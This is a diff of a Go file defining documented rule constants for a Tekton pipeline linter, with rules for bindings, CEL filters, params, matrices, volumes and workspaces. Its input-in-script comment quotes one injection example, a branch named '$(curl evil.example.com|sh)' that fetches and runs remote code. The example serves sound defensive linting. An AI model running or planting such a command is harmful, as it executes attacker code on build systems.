@@ -21,6 +21,21 @@ const AnnotationInvalid = "annotation-invalid"
 // Severity: error. Topic: objects.
 const BackendInvalid = "backend-invalid"
 
+// BindingConstant is binding-constant: a binding value looks like a path of the
+// event, but is a constant.
+//
+// Tekton reads the event only in `$(...)` of a binding: `$(body.after)`. Any
+// other value is a constant, as `body.after`, `${body.after}`, `{{ body.after
+// }}` and `$body.after` are: this text itself reaches the run. The default of a
+// template param is always a constant, even with `$(body.after)`.
+//
+// Values that begin with body, header, extensions or context.eventID are
+// reported, with the braces of shells, GitHub Actions, Go and Jinja templates,
+// or without any.
+//
+// Severity: warning. Topic: triggers.
+const BindingConstant = "binding-constant"
+
 // BindingExternal is binding-external: the TriggerBinding is not among the
 // checked objects.
 //
@@ -46,6 +61,22 @@ const BindingExternal = "binding-external"
 // Severity: error. Topic: volumes.
 const BindingInvalid = "binding-invalid"
 
+// BindingKey is binding-key: a dot in a key of a binding path is not escaped.
+//
+// In the JSONPath of a binding, a dot separates names, also inside brackets and
+// quotes: `labels['tekton.dev/pipeline']` reads the field `dev/pipeline` of the
+// field `tekton`. The path finds nothing, and the event fails unless the
+// TriggerTemplate has a default. This concerns the keys of labels and
+// annotations, other keys that begin with a domain, and the names of files in
+// `data`. Write `\.` for a dot that belongs to a key, with or without brackets.
+//
+// A key such as `['repository.name']` is not reported: it finds the field
+// `name` of `repository`. In CEL, `body.labels['tekton.dev/pipeline']` is
+// right.
+//
+// Severity: warning. Topic: triggers.
+const BindingKey = "binding-key"
+
 // BindingObject is binding-object: an object or a list is substituted into a
 // string.
 //
@@ -53,7 +84,9 @@ const BindingInvalid = "binding-invalid"
 // template. The quotes of an object, or of a list of strings, end the string
 // around it: the result is not valid JSON, and nothing is created. A path with
 // a wildcard, a slice or a filter gives a list unless it finds exactly one
-// value, which is a warning.
+// value, which is a warning. So is an extension of which a CEL expression may
+// make an empty list or object, which has no quotes. Lists of numbers and
+// booleans have none.
 //
 // Use a single value, join a list in an overlay of a CEL interceptor, or make
 // an object a string with `marshalJSON()`. The annotation
@@ -107,6 +140,27 @@ const BindingUnknown = "binding-unknown"
 //
 // Severity: error. Topic: triggers.
 const CELInvalid = "cel-invalid"
+
+// CELType is cel-type: a CEL expression uses a header as if it were a string.
+//
+// In the CEL interceptor of Tekton Triggers, `header` is a map of lists: an
+// event can have a header several times. `header['X'] == 'push'` and
+// `header['X'] in ['push']` compare a list with a string. They compile, and are
+// false for every event. `header['X'] != 'push'` is always true. A function or
+// an operator for strings, such as `startsWith` or `+`, fails with a list. The
+// names are in canonical form: there is no `header['X-GitHub-Event']`, but a
+// `header['X-Github-Event']`.
+//
+// The finding is an error if no event passes the filter, or if the expression
+// always fails. It is a warning if another part of the expression decides, as
+// in `header['X'] == 'push' || body.forced`.
+//
+// Use `header.match('X-GitHub-Event', 'push')`, or
+// `header.canonical('X-GitHub-Event')`, which is a string. Both accept the name
+// in any case. `'push' in header['X']` and `header['X'][0]` are right.
+//
+// Severity: error. Topic: triggers.
+const CELType = "cel-type"
 
 // ConfigMapExternal is configmap-external: the ConfigMap is not among the
 // checked objects.
@@ -171,6 +225,31 @@ const Cycle = "cycle"
 // Severity: error. Topic: runs.
 const DebugInvalid = "debug-invalid"
 
+// DefaultUnreplaced is default-unreplaced: the default of a param refers to
+// another param that Tekton does not look up there.
+//
+// The default of a param may refer to other params, but each kind has its own
+// limits:
+//
+//   - In a Task, Tekton looks up the defaults of the other params, not what a run
+//     sets. A param without a default is not found, and then the param with the
+//     reference stays unreplaced, too: the literal `$(params.NAME)` reaches the
+//     container. Of several params in one default only the last is replaced. A
+//     default that itself refers to a param must come first. In an array or an
+//     object, nothing is replaced.
+//   - In a pipeline, the run fails if a default refers to an item or a key of
+//     another default.
+//   - In a StepAction, the TaskRun fails if a default refers to an item or a key.
+//   - A name in brackets is found nowhere in the default of a string.
+//
+// Contexts, workspaces and results have no such limits: Tekton replaces them
+// where the param is used.
+//
+// Use the other param where this one is used, instead of in its default.
+//
+// Severity: error. Topic: params.
+const DefaultUnreplaced = "default-unreplaced"
+
 // DocumentLimit is document-limit: a document is too large, too deeply nested,
 // or expands too much.
 //
@@ -182,6 +261,22 @@ const DebugInvalid = "debug-invalid"
 //
 // Severity: error. Topic: documents.
 const DocumentLimit = "document-limit"
+
+// DollarHalved is dollar-halved: two dollars in a command, an argument or a
+// variable become one.
+//
+// In the command, the args and the environment variables of a container, the
+// kubelet replaces `$(NAME)` with an environment variable, and `$$` with `$`,
+// which is how such a variable is escaped. `echo $$` in the args of a step thus
+// prints `$` instead of the process ID of the shell, a password `pa$$word`
+// becomes `pa$word`, and the last dollar of a regular expression disappears.
+// The `script` of a step is not changed.
+//
+// The rule does not report `$$(`, which escapes a variable, and three or more
+// dollars in a row. Write `$$$$` for `$$`, or use a script.
+//
+// Severity: warning. Topic: steps.
+const DollarHalved = "dollar-halved"
 
 // EnumInvalid is enum-invalid: a param value or default is not in the enum of
 // the param.
@@ -202,9 +297,9 @@ const EnumInvalid = "enum-invalid"
 //
 // The interceptor accepts events of the listed types, spelled as in the header
 // that the system sends: `pull_request` of GitHub, `Push Hook` of GitLab,
-// `repo:push` and `pr:opened` of Bitbucket. A type that does not exist matches
-// no event. Only types that look misspelled are reported, because systems add
-// new ones.
+// `repo:push` and `pr:opened` of Bitbucket. The case matters. A type that does
+// not exist matches no event. Only types that look misspelled, and those of
+// another system, are reported, because systems add new ones.
 //
 // Severity: warning. Topic: triggers.
 const EventUnknown = "event-unknown"
@@ -282,6 +377,14 @@ const FieldType = "field-type"
 //
 // If the intended field can be guessed, its value is checked as well.
 //
+// In some places the API server keeps every field, and only the webhook of
+// Tekton reads them: in all kinds of Tekton Triggers, and in pipelineSpec,
+// taskSpec, volumes, volumeClaimTemplate, and the affinity and securityContext
+// of a podTemplate. It accepts a name in another case, such as
+// `resourceTemplates`, and stores it under the exact name. There, such a name
+// is a warning: other tools, such as Argo CD or kustomize, compare and patch
+// fields by their exact names.
+//
 // Severity: error. Topic: documents.
 const FieldUnknown = "field-unknown"
 
@@ -332,11 +435,12 @@ const HostInvalid = "host-invalid"
 // identify a version (`stable`, `dind`, `main`), are moved to other images from
 // time to time. The same pipeline then silently behaves differently, on some
 // nodes sooner than on others. Param defaults that set an image are checked as
-// well.
+// well. Each image is reported once, with some of the other places. `--persona
+// auditor` reports each image that has no digest.
 //
 // Use a version, or better a digest: `golang:1.26.0@sha256:...`.
 //
-// Severity: warning. Topic: practice.
+// Severity: note. Topic: practice.
 const ImageFloating = "image-floating"
 
 // ImageInvalid is image-invalid: an image reference is malformed.
@@ -398,11 +502,12 @@ const IngressInvalid = "ingress-invalid"
 // Tekton substitutes the value before the shell reads the script. Anyone who
 // sets the param, for example through an event, writes part of the script: a
 // branch named `$(curl evil.example.com|sh)` is executed. Tekton rejects this
-// in a StepAction, so it is an error there.
+// in a StepAction, so it is an error there. Where the set shows that an event
+// of a stranger sets the value, untrusted-input reports it as well.
 //
 // Pass the value through env, and quote the shell variable.
 //
-// Severity: warning. Topic: practice.
+// Severity: note. Topic: practice.
 const InputInScript = "input-in-script"
 
 // InterceptorExternal is interceptor-external: the interceptor is not among the
@@ -605,6 +710,38 @@ const MatrixMiscounted = "matrix-miscounted"
 // Severity: error. Topic: order.
 const MatrixMissing = "matrix-missing"
 
+// MatrixNode is matrix-node: the runs of a matrix share one node.
+//
+// By default (coschedule `workspaces`), Tekton's affinity assistant keeps all
+// TaskRuns of a PipelineRun that mount the same PersistentVolumeClaim on one
+// node. The runs of a matrix with such a workspace thus share the processors
+// and the memory of a single node, whatever their requests, and those that do
+// not fit wait.
+//
+// If this is too slow, pass the files in another way, such as an object store
+// or an image. Or set coschedule to `disabled` in the cluster, and use a volume
+// that several nodes can mount.
+//
+// Severity: note. Topic: volumes.
+const MatrixNode = "matrix-node"
+
+// MatrixShared is matrix-shared: the runs of a matrix write to the same
+// workspace.
+//
+// Tekton starts the runs of a matrix at the same time, and each of them mounts
+// the same workspace. A Task that clones into it, or writes a file of a fixed
+// name, thus runs next to itself in one directory, and the result depends on
+// which run is last.
+//
+// The rule reports tasks with a matrix whose Task is known, uses the path of
+// the workspace and does not declare it readOnly. It does not report a Task
+// that uses the path only next to a param of the matrix, which may be the name
+// of a directory, nor a workspace that the run binds to an emptyDir, of which
+// each run has its own.
+//
+// Severity: warning. Topic: workspaces.
+const MatrixShared = "matrix-shared"
+
 // MatrixSingle is matrix-single: a single result is read from a task with a
 // matrix.
 //
@@ -640,6 +777,40 @@ const MatrixSize = "matrix-size"
 //
 // Severity: warning. Topic: order.
 const MatrixUnordered = "matrix-unordered"
+
+// MatrixUnread is matrix-unread: a pipeline result reads a matrix that no task
+// reads.
+//
+// Tekton collects the results of the runs of a matrix only when a task reads
+// one of them: in a param, in a matrix, in a when expression, or in its
+// embedded spec. A pipeline result alone does not cause it. All tasks succeed,
+// and the run then fails with `CouldntGetPipelineResult` (*the referenced
+// results don't exist*). The length of the matrix,
+// `$(tasks.NAME.matrix.length)`, is no such read either.
+//
+// Pass one of the results to another task, for example as a param of a task in
+// finally. A matrix in finally cannot be read at all.
+//
+// Severity: error. Topic: order.
+const MatrixUnread = "matrix-unread"
+
+// ModeInvalid is mode-invalid: a file mode is out of range, or decimal where
+// octal is meant.
+//
+// The modes of files in volumes (`defaultMode`, and `mode` of an item) are
+// numbers. YAML reads `0600` and `0o600` as octal and `600` as decimal. JSON
+// has no octal numbers: there `0600` is `384`.
+//
+// Kubernetes accepts 0 to 0777, which is 511. It rejects the pod of a TaskRun
+// with another mode (`PodCreationFailed`). It accepts `400`, `440`, `444` and
+// `500`, but these give 0620, 0670, 0674 and 0764: the files can be written by
+// their group, and ssh refuses such a key. This is a warning.
+//
+// The rule looks at Secrets, ConfigMaps, projected volumes and the downward
+// API, in volumes of Tasks and pod templates and in the workspaces of runs.
+//
+// Severity: error. Topic: volumes.
+const ModeInvalid = "mode-invalid"
 
 // MountDuplicate is mount-duplicate: two volumes or workspaces are mounted at
 // the same path.
@@ -731,6 +902,11 @@ const NamespaceUnknown = "namespace-unknown"
 // is applied last wins, and the other is lost; kustomize and Helm reject both.
 // If the two are identical, the finding is a warning.
 //
+// Objects in two directories do not count: a repository has many sets, such as
+// the versions of a Task, or overlays. A reference means the nearest object of
+// the name: in the same file, in the same directory, below it, and so on
+// outward.
+//
 // Rename or remove one of them.
 //
 // Severity: error. Topic: names.
@@ -742,6 +918,10 @@ const ObjectDuplicate = "object-duplicate"
 // case-sensitive. A list of objects is not an object: write each one into a
 // document of its own, separated by `---`, or put them under `items` of a
 // `kind: List`.
+//
+// A document of another kind of file, such as a devfile or a schema, is passed
+// over in a directory, and is a note if the file is named: it has neither of
+// the two fields, in any spelling, and not both metadata and a spec.
 //
 // Severity: error. Topic: documents.
 const ObjectUntyped = "object-untyped"
@@ -759,6 +939,10 @@ const OnErrorInvalid = "onerror-invalid"
 //
 // When expressions skip their own task and the tasks that read its results. A
 // task that only lists it in runAfter still runs.
+//
+// It is a warning if the task before, its Task or its kind of custom task is
+// named after an approval: a task that deploys after `approve` runs without an
+// approval whenever `approve` is skipped.
 //
 // If it should be skipped too, give it the same when expressions.
 //
@@ -921,6 +1105,23 @@ const PipelineExternal = "pipeline-external"
 // Severity: error. Topic: objects.
 const PipelineUnknown = "pipeline-unknown"
 
+// PodtemplateReplaced is podtemplate-replaced: the podTemplate of a task drops
+// a part of that of the run.
+//
+// A `podTemplate` in `taskRunSpecs` is combined with the `podTemplate` of the
+// run. Only `env` and `volumes` are merged, by name. All other fields of the
+// task replace those of the run as a whole: `nodeSelector`, `tolerations`,
+// `imagePullSecrets`, `hostAliases`, `topologySpreadConstraints`, `affinity`,
+// `securityContext` and `dnsConfig`. A task with one toleration of its own thus
+// loses the tolerations of the run, and a task with a securityContext loses the
+// fsGroup of the run.
+//
+// The rule reports what the run has and the task lacks. Repeat it if the task
+// needs both. An empty list, which removes all items, is not reported.
+//
+// Severity: note. Topic: runs.
+const PodtemplateReplaced = "podtemplate-replaced"
+
 // PolicyInvalid is policy-invalid: a VerificationPolicy is not valid.
 //
 // A VerificationPolicy needs resources, each with a pattern that is a regular
@@ -968,13 +1169,13 @@ const Privileged = "privileged"
 // tools verify their caches: the Go command builds with whatever its build
 // cache has.
 //
-// The rule compares the subPaths of workspaces and of volumes of Tasks. It
-// reports directories that runs for pull requests, merge requests, issues or
-// comments can write to, and that other runs use: runs for other events, and
-// runs in the same files. Directories with a variable in their subPath are not
-// compared. A trigger is not reported if it filters by author, by the
-// repository of the commits or by label, or has interceptors that do not come
-// with Tekton Triggers.
+// The rule compares the subPaths of workspaces, and of volumes of Tasks and pod
+// templates. It reports directories that runs for pull requests, merge
+// requests, issues or comments can write to, and that other runs use: runs for
+// other events, and runs in the same files. Directories with a variable in
+// their subPath are not compared. A trigger is not reported if it filters by
+// author, by the repository of the commits or by label, or has interceptors
+// that do not come with Tekton Triggers.
 //
 // Bind a different PersistentVolumeClaim or subPath for these runs, or declare
 // the workspace `readOnly` in their Tasks. In Go, `tasks.CachePath` returns a
@@ -1046,6 +1247,9 @@ const PVCUnusable = "pvc-unusable"
 //
 // List these service accounts under resourceNames.
 //
+// If the set has runs or EventListeners, only what their service accounts are
+// granted is reported. `--persona auditor` reports all.
+//
 // Severity: warning. Topic: rbac.
 const RBACImpersonate = "rbac-impersonate"
 
@@ -1080,6 +1284,9 @@ const RBACMissing = "rbac-missing"
 // Bind the role with a RoleBinding in the namespaces that need it, or set
 // resourceNames.
 //
+// If the set has runs or EventListeners, only what their service accounts are
+// granted is reported. `--persona auditor` reports all.
+//
 // Severity: warning. Topic: rbac.
 const RBACSecrets = "rbac-secrets"
 
@@ -1094,6 +1301,9 @@ const RBACSecrets = "rbac-secrets"
 //
 // List the resources and verbs that are needed, and bind the role only in the
 // namespaces that need it.
+//
+// If the set has runs or EventListeners, only what their service accounts are
+// granted is reported. `--persona auditor` reports all.
 //
 // Severity: warning. Topic: rbac.
 const RBACWide = "rbac-wide"
@@ -1118,12 +1328,37 @@ const ReferenceInvalid = "reference-invalid"
 //
 // Request what the largest step needs, in the step or in stepTemplate; limits
 // count as requests. Tekton adds up the requests of the steps, because all
-// containers of a pod exist at the same time. A run can set its own
-// (`taskRunSpecs`, `stepSpecs`, `computeResources`). If a LimitRange sets
-// defaults for the namespace, turn this rule off in the profile.
+// containers of a pod exist at the same time. What a run of the same set gives
+// to the Task (`taskRunSpecs`, `stepSpecs`, `computeResources`) counts, and so
+// do the defaults of a LimitRange. This is advice, for `--persona pedantic`.
 //
-// Severity: warning. Topic: practice.
+// Severity: note. Topic: practice.
 const RequestsMissing = "requests-missing"
+
+// ResolverIgnored is resolver-ignored: a resolver does not read a param,
+// because of its other params.
+//
+// Some params of a resolver have no effect next to others, and nobody reports
+// it. The git resolver has two ways to fetch a file:
+//
+//   - With `url`, it clones the repository. It reads `gitToken` and
+//     `gitTokenKey`. It does not read `token`, `tokenKey`, `scmType`, `serverURL`
+//     and `org`, so the clone of a private repository is anonymous and fails. The
+//     same applies without `url` and `repo`, when it clones the default
+//     repository of the cluster.
+//   - With `org` and `repo`, it uses the API of the server. It reads `token`,
+//     `tokenKey`, `scmType` and `serverURL`, and does not read `gitToken` and
+//     `gitTokenKey`.
+//
+// The name of a key has no effect without the name of its Secret: `tokenKey`
+// without `token`, `gitTokenKey` without `gitToken`, and in the http resolver
+// `http-password-secret-key` without `http-password-secret`.
+//
+// A param whose value may be empty, such as `$(params.url)`, is not judged. Set
+// the param that is read, or remove the one that is not.
+//
+// Severity: warning. Topic: objects.
+const ResolverIgnored = "resolver-ignored"
 
 // ResolverInvalid is resolver-invalid: a resolver lacks params, or their values
 // are not valid.
@@ -1167,6 +1402,9 @@ const ResourceGroup = "resource-group"
 // Kubernetes has removed PodSecurityPolicies. The rule has no effect.
 //
 // Remove the resource.
+//
+// If the set has runs or EventListeners, only what their service accounts are
+// granted is reported. `--persona auditor` reports all.
 //
 // Severity: warning. Topic: rbac.
 const ResourceRemoved = "resource-removed"
@@ -1223,8 +1461,10 @@ const ResultNested = "result-nested"
 // Tekton reads results from the termination message of a container. Kubernetes
 // keeps 4096 bytes of it, and 12288 bytes for all containers of a pod together.
 // With more, the task fails ("Termination message is above max allowed size
-// 4096"). The rule reports commands with unbounded output that write to a
-// result, and results whose names alone do not fit.
+// 4096"). An array of some 80 URLs is too long. The rule reports commands with
+// unbounded output that write to a result, texts of scripts that are too long
+// for it (of an echo, a printf, or a here-document with cat), and results whose
+// names alone do not fit.
 //
 // Write large data to a file in a workspace. Or let the cluster read results
 // from a sidecar (`results-from: sidecar-logs`), and turn this rule off.
@@ -1238,6 +1478,14 @@ const ResultSize = "result-size"
 // A task that is skipped by its when expressions has no results. A task that
 // reads one of them is skipped too ("Results were missing"), also in finally. A
 // pipeline result that reads one is omitted.
+//
+// Whatever runs after such a reader is skipped with it, because of runAfter or
+// results, although it does not read the result itself: Tekton passes over the
+// when expressions of the tasks before a task, but not over a missing result.
+// The finding names these tasks.
+//
+// A reader is not reported if its when expressions are only true if those of
+// the other task are, such as `in [a]` next to `in [a, b]` with the same input.
 //
 // If this is intended, give the reader the same when expressions, or suppress
 // this rule. If the reader should always run, order the tasks with runAfter and
@@ -1292,6 +1540,12 @@ const ResultUnresolved = "result-unresolved"
 // another task reads a missing one ("Failed Validation"). A pipeline result
 // that reads one is omitted.
 //
+// A Task is not reported if one of its steps runs a StepAction, or a program
+// whose text is not known and that may write the results itself: the entrypoint
+// of its image, or a command other than a shell with a script and common ones
+// such as `ls`. A program that gets the path of one result is expected to get
+// those of the others.
+//
 // Write the result to `$(results.NAME.path)`, or remove it.
 //
 // Severity: warning. Topic: results.
@@ -1321,6 +1575,22 @@ const ResultValue = "result-value"
 //
 // Severity: error. Topic: runs.
 const RetriesInvalid = "retries-invalid"
+
+// RetrycountFixed is retrycount-fixed: the retry count of a referenced Task is
+// always 0.
+//
+// `$(context.task.retry-count)` is the number of the attempts before the
+// current one. In a Task that is referred to with taskRef, it stays 0: Tekton
+// stores the spec in which it replaced the variables for the first attempt in
+// the status of the TaskRun, and takes this one for the other attempts. With an
+// embedded taskSpec, it counts up.
+//
+// The rule reports tasks and TaskRuns with retries that refer to a Task that
+// uses the variable. Embed the spec, or store the number of the attempt
+// elsewhere.
+//
+// Severity: warning. Topic: runs.
+const RetrycountFixed = "retrycount-fixed"
 
 // RoleEmpty is role-empty: a role has no rules.
 //
@@ -1858,6 +2128,9 @@ const TaskRunSpecDuplicate = "taskrunspec-duplicate"
 // Each item of resourcetemplates is one object, with apiVersion and kind.
 // Tekton rejects anything else.
 //
+// A trigger may also set a param to nothing, so that the kind or the name of an
+// object is empty when an event arrives. Then nothing is created.
+//
 // Severity: error. Topic: triggers.
 const TemplateBody = "template-body"
 
@@ -1986,18 +2259,19 @@ const TriggerUnknown = "trigger-unknown"
 // writes the Makefile, the tests or the Dockerfile that the task runs. They can
 // read the Secret and the token of the service account, and send them away.
 //
-// Stop strangers with a filter, for example by the repository of the commit
-// (`body.pull_request.head.repo.full_name == body.repository.full_name`), by
-// `author_association`, or by the id of the author. Or run their pull requests
-// with another trigger whose tasks get no credentials. Names of users are a
-// weak filter, since a name can be given up and be taken by somebody else. If
-// nobody else can read the repository, add `body.repository.private` to the
-// filter (GitHub, Gitea), or explain it in the annotation
-// `check.tekwright.dev/untrusted-code`.
+// Stop strangers with a filter, for example by the repository of the commit, by
+// the id of the author, or by `author_association`, which only GitHub sends. Or
+// run their pull requests with another trigger whose tasks get no credentials.
+// Names of users are a weak filter, since a name can be given up and be taken
+// by somebody else. If nobody else can read the repository, add
+// `body.repository.private` to the filter (GitHub, Gitea), or explain it in the
+// annotation `check.tekwright.dev/untrusted-code`.
 //
-// On Gitea and Forgejo, anyone who can read a repository can also push to
-// `refs/for`, and such a pull request comes from the repository itself: there,
-// add `&& !body.pull_request.head.ref.startsWith('refs/pull/')` to the filter.
+// For pull requests of GitHub, Gitea and Forgejo, the suggested filter compares
+// the repository, and `!body.pull_request.head.ref.startsWith('refs/pull/')`
+// stops those pushed to `refs/for`: anyone who can read a repository of Gitea
+// or Forgejo can do so, and they come from the repository itself. A fork that
+// was deleted does not pass.
 //
 // The rule follows the commit from the binding to the task that checks it out,
 // if the Pipeline is among the checked objects. Interceptors that do not come
@@ -2045,19 +2319,74 @@ const ValueMissing = "value-missing"
 //
 // The value of a param is a string, a list of strings or a map of strings.
 // Other values are not rejected: Tekton silently turns a list or a map that
-// contains a number, a boolean or another list into one JSON string. The run
-// fails where an array or an object is expected (`TaskRunValidationFailed`,
-// `ParameterTypeMismatch`). Where a string is expected, the task receives
-// `[80,443]`.
+// contains a number, a boolean or another list into one JSON string. Where a
+// string is expected, the task receives `[80,443]`. Where an array or an object
+// is expected, the run fails (`TaskRunValidationFailed`,
+// `ParameterTypeMismatch`), and param-type is an error.
 //
-// Put each item in quotes. A single number or boolean becomes a string as well.
-// If that string differs from the text in the file (`1.10` becomes 1.1, `yes`
-// becomes true, `0755` becomes 493), the finding is a warning. A key that YAML
-// 1.1 does not read as a string is a warning, too: `n` and `off` become
-// `false`, `y` and `on` become `true`.
+// A single number or boolean becomes a string as well. The finding is about
+// those whose string differs from the text in the file: `1.10` becomes 1.1,
+// `yes` becomes true, `0755` becomes 493. It is also about keys that YAML 1.1
+// does not read as strings: `n` and `off` become `false`, `y` and `on` become
+// `true`.
 //
-// Severity: error. Topic: documents.
+// Put the value in quotes. JSON for a string param can be written as a block,
+// `|`. The default of a param with `type: string` is read as JSON without a
+// finding.
+//
+// Severity: warning. Topic: documents.
 const ValueType = "value-type"
+
+// ValueUnescaped is value-unescaped: a constant makes the JSON of a resource
+// template invalid.
+//
+// Tekton inserts the value of a param into the JSON of a resource template,
+// inside a string. What it reads from an event is escaped. What is written in a
+// binding, and the default of a param, is not. A line break, a tab, another
+// control character, a double quote, or a backslash that begins no JSON escape
+// makes the JSON invalid. The sender still gets 202, and nothing is created.
+//
+// Escape such characters as in JSON, and write the value in single quotes or in
+// none. In double quotes, YAML itself replaces `\n` by a line break. The
+// annotation `triggers.tekton.dev/old-escape-quotes` of a TriggerTemplate makes
+// Tekton escape double quotes, but nothing else, and an escaped quote a second
+// time.
+//
+// A value that ends the string and continues the JSON correctly is not
+// reported. The finding is a warning if it depends on the event or on the
+// template: for a default that replaces a path without a value, and for a
+// double quote in a TriggerBinding whose templates are not among the checked
+// objects.
+//
+// Severity: error. Topic: triggers.
+const ValueUnescaped = "value-unescaped"
+
+// VariableForeign is variable-foreign: a variable is written as in another
+// language.
+//
+// Tekton replaces `$(params.x)` and nothing else: not `${params.x}`, `${{
+// params.x }}`, `{{params.x}}` or `$params.x`, nor the names that other systems
+// use, such as `{{inputs.parameters.x}}`. Such a text is passed on as it is: an
+// image of that name does not exist, a program gets the text, and a shell fails
+// with *bad substitution*.
+//
+// The rule reports expressions that are variables of Tekton otherwise, and
+// whose param, result, workspace, task or context exists. In the script of a
+// shell, `$params.x` and `{{params.x}}` are warnings, because the shell accepts
+// them, and `$params.x` is not reported if the script sets a variable `params`.
+// In quotes that the shell does not expand, `${params.x}` is a warning too,
+// since another program may read it. Comments, and scripts for interpreters
+// other than a shell, are not reported. `{{.params.x}}` is a warning: it may be
+// a Go template.
+//
+// `$(inputs.params.x)` is an older spelling that Tekton still replaces in
+// Tasks. The rule variable-unknown reports `$(outputs.results.x)`,
+// `$(task.results.x)` and other beginnings that Tekton does not know.
+//
+// Write it as the finding suggests.
+//
+// Severity: error. Topic: variables.
+const VariableForeign = "variable-foreign"
 
 // VariableIgnored is variable-ignored: a variable is in a field in which Tekton
 // replaces no variables.
@@ -2137,7 +2466,8 @@ const VerbUnknown = "verb-unknown"
 // announced that it will remove the versions. The conversion drops fields that
 // only the old version has, or keeps them in annotations.
 //
-// Use the version in the help.
+// Use the version in the help. Each version is reported once, with some of the
+// other objects that have it.
 //
 // Severity: warning. Topic: versions.
 const VersionDeprecated = "version-deprecated"
@@ -2282,6 +2612,29 @@ const WhenInvalid = "when-invalid"
 // Severity: warning. Topic: order.
 const WhenNeverTrue = "when-never-true"
 
+// WordUnknown is word-unknown: a field of a pod has a word that Kubernetes does
+// not know.
+//
+// Some fields of steps, sidecars, volumes and pod templates accept only a few
+// words, in exactly one spelling: `IfNotPresent`, not `ifNotPresent`. Tekton
+// admits any, and Kubernetes rejects the pod of the TaskRun
+// (`PodCreationFailed`).
+//
+// The rule looks at pull policies, protocols, restart policies, mount
+// propagation, recursiveReadOnly, termination message policies, schemes of
+// probes, procMount, types of host paths, media of emptyDir, DNS policies,
+// operators and effects of tolerations, operators of affinities and label
+// selectors, topology spread constraints, and the policies for fsGroup and
+// supplemental groups. A word with a variable is not judged. For a Secret, a
+// type that is almost `kubernetes.io/basic-auth`, `kubernetes.io/ssh-auth`,
+// `kubernetes.io/dockerconfigjson` or the like is a warning, since nothing uses
+// it.
+//
+// Write the word as the finding suggests.
+//
+// Severity: error. Topic: steps.
+const WordUnknown = "word-unknown"
+
 // WorkspaceDuplicate is workspace-duplicate: two workspaces have the same name.
 //
 // Tekton rejects two workspaces with the same name in a declaration, in a run,
@@ -2302,6 +2655,26 @@ const WorkspaceDuplicate = "workspace-duplicate"
 //
 // Severity: warning. Topic: workspaces.
 const WorkspaceExtra = "workspace-extra"
+
+// WorkspaceIsolated is workspace-isolated: a step uses a workspace that only
+// other steps have.
+//
+// A workspace that a step or a sidecar lists in its own `workspaces` is
+// isolated: Tekton mounts it only in the steps and sidecars that list it. In
+// all others, the directory `$(workspaces.NAME.path)` does not exist, so
+// reading fails, and what is written there is lost. Tekton replaces the
+// variable nevertheless, and reports nothing.
+//
+// The rule looks at scripts, commands, args, env and the params of StepActions.
+// A script that only prints the path, or tests whether it exists, is not
+// reported. It is a warning if the workspace is optional, in a workingDir,
+// which Kubernetes creates, and in scripts for interpreters other than a shell.
+//
+// Add the workspace to the step, or remove the lists of all steps, so that each
+// has it.
+//
+// Severity: error. Topic: workspaces.
+const WorkspaceIsolated = "workspace-isolated"
 
 // WorkspaceMissing is workspace-missing: a required workspace is not bound.
 //
